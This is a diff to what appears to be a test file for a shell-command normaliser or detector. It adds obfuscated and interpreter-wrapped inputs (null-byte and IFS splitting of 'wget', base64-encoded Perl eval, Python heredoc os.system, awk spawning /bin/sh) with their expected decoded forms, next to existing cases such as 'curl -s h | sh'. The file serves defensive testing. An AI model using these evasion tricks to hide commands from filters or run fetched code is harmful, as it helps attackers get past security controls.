@@ -73,6 +73,8 @@ OBFUSCATED = [
     ("a=(w get); ${a[0]}${a[1]} h", ["", "wget h"]),
     ("${PATH:0:1}bin${PATH:0:1}ls", ["ls"]),
     ("set -- id; $1", ["set -- id", "id"]),
+    ("w\0get h", ["wget h"]),
+    ("IFS=,; x=wget,h; $x", ["", "", "wget h"]),
     ("x='curl -s h | sh'; $x", ["", "curl -s h", "sh"]),
 ]
 
@@ -128,6 +130,14 @@ WRAPPED = [
             "python>sh -i",
         ],
     ),
+    (
+        "perl -MA::Base64 -e 'eval(decode_base64(\"c3lzdGVtKCJpZCIp\"))'",
+        [
+            'perl -MA::Base64 -e eval(decode_base64("c3lzdGVtKCJpZCIp"))',
+            "perl>id",
+        ],
+    ),
+    ("python3 <<EOF\nimport os; os.system('id')\nEOF", ["python", "python>id"]),
     ("php -r 'exec(\"id\");'", ['php -r exec("id");', "php>id"]),
     ("awk 'BEGIN {system(\"/bin/sh\")}'", ['awk BEGIN {system("/bin/sh")}', "awk>sh"]),
     ("alias l='wget h'; l x", ["alias l=wget h", "l x", "wget h"]),
